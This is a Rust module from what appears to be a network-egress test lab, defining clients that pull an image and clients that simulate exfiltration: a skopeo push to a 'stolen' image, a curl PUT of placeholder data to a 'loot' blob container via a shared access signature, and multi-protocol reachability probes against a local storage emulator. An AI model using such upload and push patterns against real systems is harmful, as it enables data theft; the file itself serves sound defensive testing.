//! Clients on the device: a client that pulls, and clients that exfiltrate.

pub mod captured_hello;
pub mod keepalive_client;
pub mod socket_options;
pub mod stream;
#[cfg(feature = "certificates")]
pub mod tls_client;

use std::{
    fs,
    net::IpAddr,
    path::Path,
    process::Command,
    time::{Duration, Instant},
};

use anyhow::{Context, Result, bail};
use serde::Deserialize;

use crate::{
    fixtures::{
        process::{Finished, run, run_with_input},
        process_env::ProcessEnv,
        tool_cache::ToolCache,
    },
    servers::{
        azurite::{ACCOUNT_KEY, HOST},
        certificates::Certificates,
        registry::{IMAGE, skopeo},
    },
};

const STORAGE_CLIENT: &str = include_str!("../../lab/storage_client.py");
const REACH_ADDRESSES: &str = include_str!("../../lab/reach_addresses.py");
/// Time limit of a client, longer than the clients' internal ones.
pub(crate) const LIMIT: Duration = Duration::from_secs(90);
const ATTEMPTS_LIMIT: Duration = Duration::from_secs(300);

/// The directory of a pulled image in that of the pull.
pub const PULLED: &str = "image";

/// A pull that succeeded.
#[derive(Clone, Copy, Debug)]
pub struct PullReport {
    /// Duration of the client's process.
    pub duration: Duration,
    /// Number of layers.
    pub layers: usize,
    /// Size of all layers in bytes.
    pub bytes: u64,
}

/// The result of an exfiltration attempt.
#[derive(Clone, Debug, Deserialize)]
pub struct Exfiltration {
    /// Whether the data arrived.
    pub ok: bool,
    /// The client's error message.
    pub error: Option<String>,
    /// The errno at the root of the client's error, where it reports one.
    pub errno: Option<i32>,
    /// Duration of the attempt without the client's start.
    pub seconds: f64,
}

/// The result of one attempt to reach an address.
#[derive(Clone, Debug, Deserialize)]
pub struct Attempt {
    /// `tcp`, `tcp-mapped`, `udp`, `udp-connected`, `udp-mapped`, `icmp`, `raw`, `raw-own-header`.
    pub kind: String,
    /// Destination.
    pub address: IpAddr,
    /// Errno of the failed system call. Success proves that a packet arrived for TCP only.
    pub errno: Option<i32>,
    /// Duration of the system calls.
    pub milliseconds: f64,
}

/// The clients' programs and their inputs.
#[derive(Debug)]
pub(crate) struct Clients<'a> {
    pub(crate) cache: &'a ToolCache,
    pub(crate) tls: &'a Certificates,
    /// The lab's directory.
    pub(crate) dir: &'a Path,
}

impl Clients<'_> {
    /// Pulls [`IMAGE`] from `login_server` with skopeo.
    pub(crate) fn pull(&self, env: &ProcessEnv, login_server: &str) -> Result<PullReport> {
        let home = tempfile::tempdir_in(self.dir).context("create a directory for a pull")?;
        let finished = run(self.pull_command(env, login_server, home.path()), LIMIT)?;
        let duration = finished.duration;
        finished
            .success()
            .with_context(|| format!("pull from {login_server}"))?;
        report(&home.path().join(PULLED), duration)
    }

    /// A command that pulls [`IMAGE`] from `login_server` with skopeo into [`PULLED`] in `home`.
    pub(crate) fn pull_command(
        &self,
        env: &ProcessEnv,
        login_server: &str,
        home: &Path,
    ) -> Command {
        let mut pull = skopeo(self.cache, env, home);
        pull.args(["copy", "--quiet", "--src-no-creds", "--src-cert-dir"])
            .arg(self.tls.cert_dir())
            .arg(format!("docker://{login_server}/{IMAGE}"))
            .arg(format!("dir:{}", home.join(PULLED).display()));
        pull
    }

    /// Builds an image and pushes it to `login_server` with skopeo.
    pub(crate) fn push(&self, env: &ProcessEnv, login_server: &str, limit: Duration) -> Result<()> {
        let home = tempfile::tempdir_in(self.dir).context("create a directory for a push")?;
        let image = crate::servers::image::make(home.path())?;
        let mut push = skopeo(self.cache, env, home.path());
        push.args(["copy", "--quiet", "--dest-no-creds", "--dest-cert-dir"])
            .arg(self.tls.cert_dir())
            .arg(image)
            .arg(format!("docker://{login_server}/stolen:1"));
        run(push, limit)?
            .success()
            .with_context(|| format!("push to {login_server}"))?;
        Ok(())
    }

    /// Creates the bad actor's container and returns a shared access signature for it.
    pub(crate) fn prepare_storage(&self, env: &ProcessEnv) -> Result<String> {
        #[derive(Deserialize)]
        struct Prepared {
            sas: String,
        }
        let output = self
            .storage_client(env, "prepare")?
            .success()
            .context("prepare the storage")?;
        let prepared: Prepared = serde_json::from_str(&output).context("read the signature")?;
        Ok(prepared.sas)
    }

    /// Uploads with the Azure SDK.
    pub(crate) fn upload_with_sdk(&self, env: &ProcessEnv) -> Result<Exfiltration> {
        let output = self
            .storage_client(env, "upload")?
            .success()
            .context("run the Azure SDK")?;
        serde_json::from_str(&output).with_context(|| format!("read the SDK's report: {output}"))
    }

    fn storage_client(&self, env: &ProcessEnv, action: &str) -> Result<Finished> {
        let mut tool = env.command(self.cache.path("venv/bin/python"));
        tool.args(["-c", STORAGE_CLIENT, action, &format!("https://{HOST}")])
            .arg(self.tls.ca())
            .env("ACCOUNT_KEY", ACCOUNT_KEY);
        run(tool, LIMIT)
    }

    /// Tries to reach every address with every method, `rounds` times.
    pub(crate) fn attempt(
        &self,
        env: &ProcessEnv,
        addresses: &[IpAddr],
        rounds: u32,
    ) -> Result<Vec<Attempt>> {
        let mut tool = env.command(self.cache.path("venv/bin/python"));
        tool.args(["-c", REACH_ADDRESSES, &rounds.to_string()]);
        tool.args(addresses.iter().map(ToString::to_string));
        let output = run(tool, ATTEMPTS_LIMIT)?
            .success()
            .context("attempt to reach addresses")?;
        serde_json::from_str(&output).context("read the attempts' report")
    }

    /// Uploads with curl and the signature from [`Self::prepare_storage`].
    pub(crate) fn upload_with_curl(&self, env: &ProcessEnv, sas: &str) -> Result<Exfiltration> {
        let mut curl = env.command("curl");
        curl.args([
            "--disable",
            "--silent",
            "--show-error",
            "--fail",
            "--max-time",
            "30",
        ])
        .args(["--noproxy", "*", "--header", "x-ms-blob-type: BlockBlob"])
        .args(["--request", "PUT", "--data-binary", "@-", "--cacert"])
        .arg(self.tls.ca())
        .arg(format!("https://{HOST}/loot/curl?{sas}"));
        let start = Instant::now();
        let finished = run_with_input(curl, "what the device knows", LIMIT)?;
        let ok = finished.status.success();
        Ok(Exfiltration {
            ok,
            error: (!ok).then(|| finished.stderr.trim().to_owned()),
            errno: None,
            seconds: start.elapsed().as_secs_f64(),
        })
    }
}

/// Checks the pulled layers; skopeo's `dir:` transport writes one file for each blob, named by its digest.
fn report(image: &Path, duration: Duration) -> Result<PullReport> {
    #[derive(Deserialize)]
    struct Manifest {
        layers: Vec<Layer>,
    }
    #[derive(Deserialize)]
    struct Layer {
        digest: String,
        size: u64,
    }
    let text = fs::read(image.join("manifest.json")).context("read the pulled manifest")?;
    let manifest: Manifest = serde_json::from_slice(&text).context("parse the pulled manifest")?;
    let mut bytes = 0;
    for Layer { digest, size } in &manifest.layers {
        let blob = image.join(digest.trim_start_matches("sha256:"));
        let found = fs::metadata(&blob)
            .with_context(|| format!("find the layer {digest}"))?
            .len();
        if found != *size {
            bail!("the layer {digest} has {found} bytes instead of {size}");
        }
        bytes += size;
    }
    Ok(PullReport {
        duration,
        layers: manifest.layers.len(),
        bytes,
    })
}
